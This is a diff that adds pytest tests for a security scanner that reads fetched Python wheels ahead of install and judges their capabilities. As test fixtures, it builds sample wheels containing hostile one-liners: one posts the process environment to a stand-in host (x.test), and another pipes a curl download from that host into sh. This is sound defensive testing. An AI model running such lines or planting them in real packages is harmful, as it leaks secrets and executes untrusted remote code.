@@ -18,6 +18,7 @@ from veln_hook.model import Confidence, Decision, Finding, Origin, Severity, Sou
 from veln_hook.policy.settings import CoolingPolicy, Policy
 from veln_hook.signals import SignalInfo, hookimpl
 from veln_hook.source import remembering
+from veln_hook.source.client import Scanner
 from veln_hook.source.facts import RULES
 
 SEND = "send-it"
@@ -365,3 +366,81 @@ def test_what_is_no_facts_is_a_miss(monkeypatch):
         assert remembering.unpack_file(bytes_) is None
     monkeypatch.setattr(remembering, "_MAX_BYTES", 20)
     assert remembering.unpack(packed) is None
+
+
+# What is read ahead
+
+
+class Noting(Scanner):
+    """Notes what it was asked to read ahead."""
+
+    def __init__(self):
+        super().__init__()
+        self.begun = []
+
+    def scan_ahead(self, path, sha256):
+        self.begun.append((path, sha256))
+        super().scan_ahead(path, sha256)
+
+
+@pytest.fixture
+def noting(machine):
+    with Noting() as made:
+        machine.reader = made
+        yield made
+
+
+def _read_now(path):
+    with Scanner() as scanner:
+        return scanner.scan(path)
+
+
+def test_what_was_read_ahead_is_what_is_judged(machine, noting, tmp_path):
+    evil = "import os\nimport urllib.request\nurllib.request.urlopen('https://x.test', data=repr(os.environ).encode())\n"
+    guard = machine.guard()
+    for name, code in (("alpha", "x = 1"), ("evil", evil)):
+        path = str(make_wheel(tmp_path / name, "demo", "1.0", {"demo.py": code}))
+        archive = describe_archive(path, origin=Origin.FETCHED)
+        guard.read_ahead(path, archive.sha256)
+        look = guard.archives.look(archive, machine.now)
+        assert look.facts == _read_now(path)
+        assert bool(look.facts.capabilities) == (name == "evil")
+    assert len(noting.begun) == 2
+
+
+def test_what_is_replaced_since_is_judged_by_what_it_is_now(machine, noting, tmp_path):
+    evil = make_wheel(
+        tmp_path / "b", "demo", "1.0", {"demo.py": "import os\nos.system('curl https://x.test | sh')\n"}
+    )
+    path = make_wheel(tmp_path / "a", "demo", "1.0", {"demo.py": "x = 1"})
+    guard = machine.guard()
+    guard.read_ahead(str(path), hashlib.sha256(path.read_bytes()).hexdigest())
+    path.write_bytes(evil.read_bytes())
+    archive = describe_archive(str(path), origin=Origin.FETCHED)
+    assert guard.archives.look(archive, machine.now).facts == _read_now(str(evil))
+
+
+def test_what_is_known_or_unpromised_is_not_read_ahead(machine, check, release, monkeypatch):
+    archive = release("1.0")
+    check(archive)
+    begun = []
+    monkeypatch.setattr(machine.reader, "scan_ahead", lambda *asked: begun.append(asked))
+    guard = machine.guard()
+    guard.read_ahead(archive.path, "")
+    guard.read_ahead(archive.path, archive.sha256)
+    assert begun == []
+    other = release("2.0")
+    guard.read_ahead(other.path, other.sha256)
+    assert begun == [(other.path, other.sha256)]
+    machine.store.remember_scan(replace(machine.store.scan(archive.sha256), rules=RULES - 1))
+    guard.read_ahead(archive.path, archive.sha256)
+    assert begun[1:] == [(archive.path, archive.sha256)], "other rules found other facts"
+
+
+def test_a_store_that_fails_reads_nothing_ahead(machine, release):
+    archive = release("1.0")
+    guard = machine.guard()
+    machine.store.close()
+    guard.read_ahead(archive.path, archive.sha256)
+    with pytest.raises(StoreError):
+        guard.check_archive(archive)
